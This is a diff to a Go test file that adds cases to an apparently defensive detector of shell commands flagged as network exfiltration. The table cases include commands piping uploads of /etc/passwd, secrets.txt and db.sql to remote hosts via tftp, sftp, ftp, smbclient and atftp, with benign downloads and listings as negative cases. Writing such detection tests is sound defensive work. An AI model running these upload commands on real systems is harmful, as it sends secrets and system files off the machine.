@@ -72,6 +72,12 @@ func TestTransferCommandsOnStandardInput(t *testing.T) {
 		{"sftp user@host <<< 'put report.pdf'", NetworkExfiltration},
 		{"lftp ftp://files.example <<EOF\nmirror -R ./site /www\nEOF", NetworkExfiltration},
 		{"smbclient //host/share -U bob <<EOF\nsend secrets.txt\nEOF", NetworkExfiltration},
+		// The same commands echoed or printed into the client's pipe.
+		{`echo "put /etc/passwd" | tftp 10.0.0.1`, NetworkExfiltration},
+		{`printf 'put secrets.txt\n' | sftp user@host`, NetworkExfiltration},
+		{`echo -e "user a b\nput db.sql\nbye" | ftp -n host`, NetworkExfiltration},
+		{`echo "get firmware.bin" | tftp 10.0.0.1`, ""},
+		{`echo "ls" | sftp user@host`, ""},
 		// atftp(1)'s own options for the same put.
 		{"atftp --put -l secret.txt -r s.txt 10.0.0.1", NetworkExfiltration},
 		{"atftp --put --local-file secret.txt --remote-file s.txt 10.0.0.1", NetworkExfiltration},
